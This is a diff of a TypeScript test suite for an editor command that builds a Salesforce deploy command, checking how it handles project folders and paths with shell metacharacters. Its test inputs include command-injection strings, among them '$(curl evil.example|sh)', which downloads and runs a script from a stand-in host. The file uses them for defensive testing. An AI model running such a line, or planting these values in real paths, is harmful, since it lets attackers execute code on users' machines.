@@ -8,17 +8,18 @@ const { createClientApp } = await import('../../../src/commands/createClientAppC
 const COPY = 'Copy Deploy Command';
 
 /** Makes the source in a project in this folder of the workspace. @returns the last message */
-async function createIn(folder: string): Promise<ShownMessage | undefined> {
+async function createIn(folder: string, path = 'force-app'): Promise<ShownMessage | undefined> {
   editor.files.clear();
   editor.messages.length = 0;
   editor.clipboard = '';
-  const project = { packageDirectories: [{ path: 'force-app', default: true }] };
+  const project = { packageDirectories: [{ path, default: true }] };
   editor.files.set(`/workspace/${folder}/sfdx-project.json`, JSON.stringify(project));
   editor.pickRow = ([first]) => first;
   editor.type = (title) => (title.includes('Email') ? 'it@acme.example' : 'Kiosk');
   editor.pick = ({ buttons }) => buttons.find((button) => button === COPY);
   try {
-    await createClientApp({} as unknown as Sessions);
+    const sessions = { active: () => Promise.resolve(undefined) };
+    await createClientApp(sessions as unknown as Sessions);
   } finally {
     editor.pickRow = editor.type = editor.pick = () => undefined;
   }
@@ -26,25 +27,28 @@ async function createIn(folder: string): Promise<ShownMessage | undefined> {
 }
 
 describe('source of a client app in a project', () => {
-  for (const folder of ['my project', 'Løsninger/org-2']) {
-    it(`the deploy command of "${folder}" names its files in quotes`, async () => {
-      await createIn(folder);
+  for (const folder of [
+    'my project',
+    'Løsninger/org-2',
+    '$(curl evil.example|sh)',
+    'a";id;"',
+    '`id`',
+  ]) {
+    it(`the deploy command names the files as the project in ${JSON.stringify(folder)} has them, and where to run it`, async () => {
+      const message = await createIn(folder);
+      assert.ok(message?.buttons.includes(COPY));
       assert.match(
         editor.clipboard,
-        new RegExp(
-          `^sf project deploy start --source-dir "${folder}/force-app/main/default/externalClientApps/Kiosk.eca-meta.xml" --source-dir "`,
-        ),
+        /^sf project deploy start( --source-dir "force-app\/main\/default\/\w+\/Kiosk[\w.-]+"){3}$/,
       );
+      assert.equal(editor.statusBarMessages.at(-1), `Copied. Run it in /workspace/${folder}.`);
+      assert.equal(editor.files.size, 4);
     });
   }
 
-  for (const folder of ['$(curl evil.example|sh)', 'a";id;"', '`id`', '%PATH%', "it's", 'a\nb']) {
-    it(`${JSON.stringify(folder)}: a shell might run it, so that there is its path and no command`, async () => {
-      const message = await createIn(folder);
-      assert.equal(editor.clipboard, '');
-      assert.ok(!message?.buttons.includes(COPY));
-      assert.ok(message?.text.includes(`${folder}/force-app/main/default`), message?.text);
-      assert.ok(editor.files.size === 4);
-    });
-  }
+  it('a package directory that a shell might run is no place for it', async () => {
+    const message = await createIn('crm', 'a$(id)');
+    assert.ok(!message?.buttons.includes(COPY));
+    assert.equal(editor.files.size, 1);
+  });
 });
